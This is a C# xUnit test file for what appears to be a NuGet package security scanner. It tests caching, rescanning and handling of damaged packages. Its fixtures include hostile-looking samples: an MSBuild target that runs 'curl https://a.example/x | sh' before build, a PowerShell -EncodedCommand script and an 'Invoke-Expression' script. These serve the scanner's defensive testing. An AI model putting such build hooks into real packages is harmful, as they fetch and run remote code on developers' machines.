using System.IO.Compression;
using System.Text;
using Assay.Model;
using Assay.Model.Storing;
using Assay.Reports;
using Assay.TestInputs;
using Microsoft.CodeAnalysis;

namespace Assay.Scan.Tests;

public sealed class StoredContentTests
{
    private static readonly Scanner Scanner = new(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test", Identity = EmbeddedLists.Load() });

    private static readonly byte[] Inner = CSharpSample.CompileStatements("var l = new TcpListener(IPAddress.Any, 8080); l.Start();");
    private static readonly string Encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("Start-Process notepad; Get-Content C:\\a.txt"));

    // An assembly in a resource in an assembly; a command in a script; a manifest of a module; a container.
    private static readonly (string Name, byte[] Content)[] Files =
    [
        ("lib/net8.0/a.dll", Holding(("inner.dll", Holding(("innermost.dll", Inner))))),
        ("lib/net6.0/a.dll", Holding(("inner.dll", Holding(("innermost.dll", Inner))))),
        ("lib/net6.0/alone.dll", Inner),
        ("tools/init.ps1", Encoding.UTF8.GetBytes($"powershell -EncodedCommand {Encoded}\n")),
        ("build/Sample.targets", "<Project><Target Name=\"T\" BeforeTargets=\"Build\"><Exec Command=\"curl https://a.example/x | sh\"/></Target></Project>"u8.ToArray()),
        ("tools/more.zip", Zip("b.ps1", "Invoke-Expression $x"u8.ToArray())),
        ("readme.md", "Nothing to see"u8.ToArray()),
        ("broken.dll", [.. "MZ"u8, 1, 2, 3]),
    ];

    [Fact]
    public void A_package_that_was_read_back_has_the_same_report()
    {
        var store = new MemoryContents();
        var fresh = Scanner.Read(Package("1.0.0", Files), null);

        var back = store.Roundtrip(Scanner.Read(Package("1.0.0", Files), store));

        Assert.Equal(Report(fresh), Report(back));
        Assert.Contains("opens-listening-socket", Report(back), StringComparison.Ordinal);
    }

    [Fact]
    public void Contents_that_another_package_had_are_not_read_again()
    {
        var store = new MemoryContents();
        store.Roundtrip(Scanner.Read(Package("1.0.0", Files), store));
        (string, byte[])[] more = [.. Files, ("lib/net9.0/new.dll", CSharpSample.CompileStatements("Console.WriteLine(7);"))];

        var reading = Scanner.Read(Package("2.0.0", more), store);

        var read = reading.Package.Files.Zip(reading.Contents).Where(pair => pair.Second is { IsNew: true }).Select(pair => pair.First.Artifact.Name);
        Assert.Equal(["lib/net9.0/new.dll"], read);
        Assert.Equal(Report(Scanner.Read(Package("2.0.0", more), null)), Report(store.Roundtrip(reading)));
    }

    [Fact]
    public void What_lost_something_that_was_inside_it_is_read_again()
    {
        var store = new MemoryContents();
        var first = Scanner.Read(Package("1.0.0", Files[..1]), store);
        store.Roundtrip(first);
        store.Forget(first.Package.Files.Single(file => file.Artifact.Name == "resource:innermost.dll").Artifact.Sha256);

        var second = Scanner.Read(Package("2.0.0", Files[..1]), store);

        Assert.True(second.Contents[second.Package.Files.Index().Single(entry => entry.Item.Artifact.Name == Files[0].Name).Index]!.IsNew);
        Assert.Equal(Report(Scanner.Read(Package("2.0.0", Files[..1]), null)), Report(second));
    }

    [Fact]
    public void Content_that_holds_a_container_belongs_to_its_package()
    {
        var reading = Scanner.Read(Package("1.0.0", [("lib/net8.0/a.dll", Holding(("more.zip", Files[5].Content)))]), null);

        var host = reading.Package.Files.Index().Single(entry => entry.Item.Artifact.Name == "lib/net8.0/a.dll").Index;
        Assert.Contains(reading.Package.Files, file => file.Artifact.Name == "b.ps1");
        Assert.Null(reading.Contents[host]);
    }

    [Theory]
    [InlineData("a.psd1", "a.ps1")]
    [InlineData(".env", "env.txt")]
    [InlineData("a.cs", "a.vb")]
    public void Equal_content_that_is_read_as_something_else_is_read_again(string one, string other)
    {
        var store = new MemoryContents();
        var content = "@{ RootModule = 'x.psm1' }"u8.ToArray();
        store.Roundtrip(Scanner.Read(Package("1.0.0", [(one, content)]), store));

        var reading = Scanner.Read(Package("2.0.0", [(other, content)]), store);

        Assert.True(reading.Contents[reading.Package.Files.Index().Single(entry => entry.Item.Artifact.Name == other).Index]!.IsNew);
    }

    [Fact]
    public void The_budget_for_excerpts_is_the_same_whether_content_was_known_or_not()
    {
        var store = new MemoryContents();
        (string, byte[])[] scripts = [.. Enumerable.Range(0, 130).Select(i => ($"tools/{i:d3}.ps1", Encoding.UTF8.GetBytes($"powershell -EncodedCommand {Convert.ToBase64String(Encoding.Unicode.GetBytes($"Get-Item {i}"))}")))];
        store.Roundtrip(Scanner.Read(Package("1.0.0", scripts[..60]), store));
        store.Roundtrip(Scanner.Read(Package("1.0.1", scripts[60..]), store));

        var reading = Scanner.Read(Package("2.0.0", scripts), store);

        Assert.Equal(100, reading.Package.Files.Count(file => file.Artifact.Origin?.Excerpt is not null));
        Assert.Equal(Report(Scanner.Read(Package("2.0.0", scripts), null)), Report(reading));
    }

    [Fact]
    public void Damaged_packages_are_refused_or_give_facts_that_can_be_judged()
    {
        var store = new MemoryContents();
        var reading = Scanner.Read(Package("1.0.0", Files), store);
        store.Roundtrip(reading);
        var bytes = store.Bytes(reading);
        var refused = 0;
        for (var seed = 0; seed < 400; seed++)
        {
            var random = new Random(seed);
            var damaged = bytes.ToArray();
            damaged[random.Next(damaged.Length)] ^= (byte)random.Next(1, 256);
            try
            {
                PackageReadingFormat.Read(damaged, store.FactsOf);
            }
            catch (InvalidDataException)
            {
                refused++;
            }
        }

        Assert.InRange(refused, 1, 399);
    }

    [Fact]
    public void The_extractor_is_named_by_what_decides_what_is_read()
    {
        var options = new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test" };

        Assert.Equal(new Scanner(options).Extractor, new Scanner(options with { ToolVersion = "other", Rules = options.Rules with { Policies = [] } }).Extractor);
        Assert.NotEqual(new Scanner(options).Extractor, new Scanner(options with { Signatures = Signatures.SignatureSettings.Off }).Extractor);
        Assert.NotEqual(new Scanner(options).Extractor, new Scanner(options with { Signatures = new Signatures.SignatureSettings { DeniedThumbprints = ["00"] } }).Extractor);
        Assert.NotEqual(new Scanner(options).Extractor, new Scanner(options with { Limits = options.Limits.With(Assay.Model.Limit.Nesting, 3) }).Extractor);
    }

    private static PackageFile Package(string version, (string Name, byte[] Content)[] files)
    {
        var package = new NupkgBuilder(NupkgBuilder.Manifest(version: version));
        foreach (var (name, content) in files)
        {
            package.Add(name, content);
        }

        return new PackageFile($"{version}.nupkg", $"{version}.nupkg", package.Build());
    }

    private static string Report(PackageReading reading)
    {
        // Symbols are not kept, so a package that was read back tells no lines.
        using var output = new MemoryStream();
        JsonReport.Write(Scanner.Report(Scanner.Complete(reading) with { Sources = null }), output);
        return Encoding.UTF8.GetString(output.ToArray());
    }

    private static byte[] Holding(params (string Name, byte[] Content)[] resources) =>
        CSharpSample.Compile("public class C { }", resources: resources.Select(resource => new ResourceDescription(resource.Name, () => new MemoryStream(resource.Content), isPublic: true)));

    private static byte[] Zip(string name, byte[] content)
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(content);
        }

        return output.ToArray();
    }

    private sealed class MemoryContents : IContentStore
    {
        private readonly Dictionary<ContentKey, long> _numbers = [];
        private readonly List<byte[]> _readings = [];

        public ContentReading? Find(ContentKey key) => _numbers.TryGetValue(key, out var number) ? ContentReadingFormat.Read(_readings[(int)number]) : null;

        public FileFacts? FactsOf(long number) => number < _readings.Count ? ContentReadingFormat.Read(_readings[(int)number]).Facts : null;

        public void Forget(string sha256)
        {
            foreach (var key in _numbers.Keys.Where(key => key.Sha256 == sha256).ToArray())
            {
                _numbers.Remove(key);
            }
        }

        public PackageReading Roundtrip(PackageReading reading)
        {
            foreach (var content in reading.Contents.OfType<ReadContent>().Where(content => content.IsNew && _numbers.TryAdd(content.Key, _readings.Count)))
            {
                var buffer = new StoredBuffer();
                ContentReadingFormat.Write(content.Reading, buffer);
                _readings.Add(buffer.Written.ToArray());
            }

            return PackageReadingFormat.Read(Bytes(reading), FactsOf);
        }

        public byte[] Bytes(PackageReading reading)
        {
            var buffer = new StoredBuffer();
            PackageReadingFormat.Write(reading, content => _numbers[content.Key], buffer);
            return buffer.Written.ToArray();
        }
    }
}
